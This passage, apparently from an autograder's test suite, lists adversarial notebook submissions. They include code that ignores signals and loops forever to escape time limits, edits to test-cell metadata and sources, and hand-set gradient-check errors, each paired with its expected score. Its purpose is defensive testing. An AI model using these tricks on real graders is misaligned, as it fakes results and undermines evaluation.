signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        while True:
            pass
    except BaseException:  # swallows KeyboardInterrupt and the time limit
        continue
''')]),
    A("endless_functions", "os._exit, killing the parent, endless loops", "wrong", [("tail", WRONG_ALL + '''
import signal
def input_gate(x_t, h_prev, W, U, b):
    signal.signal(signal.SIGALRM, lambda *a: None)
    while True:
        try:
            pass
        except BaseException:
            pass
''')]),

    # ------------------------------------------------------------------ the notebook file itself
    A("test_cells_rewritten_and_repointed", "notebook metadata and test cells edited", "wrong",
      [("tail", WRONG_ALL)],
      edit=lambda nb: (replace_test_sources(nb, "print(16.0)\n16.0"), set_test_meta(nb, points=100))),
    # nbgrader's checksum covers the flags: it refuses the notebook ("Inconsistent checksums"), which is then not
    # graded (0, with the reason), never scored as the flags say
    A("test_cells_marked_solution", "notebook metadata and test cells edited", "wrong", [("tail", WRONG_ALL)],
      edit=lambda nb: set_test_meta(nb, solution=True, locked=False), status=("not-graded",)),
    A("test_cells_not_graded", "notebook metadata and test cells edited", "gates", [],
      edit=lambda nb: set_test_meta(nb, grade=False), expected=dict.fromkeys(TESTS, 0.0), status=("not-graded",)),
    A("gates_ok_test_cells_duplicated", "notebook metadata and test cells edited", "gates",
      [],
      edit=lambda nb: duplicate_tests(nb, "16.0")),
]


# a1_rnn: the gradient check's test cell reads the relative errors the notebook stores (step_errors, errors); this
# student stores them by hand, without a gradient check or any function written: the honest score is 0
A1_SELF_REPORTED = '''
step_errors = dict.fromkeys(("x_t", "h_prev", "W", "U", "b"), 1e-12)
errors = dict.fromkeys(("x", "h0", "W", "U", "b"), 1e-12)
'''
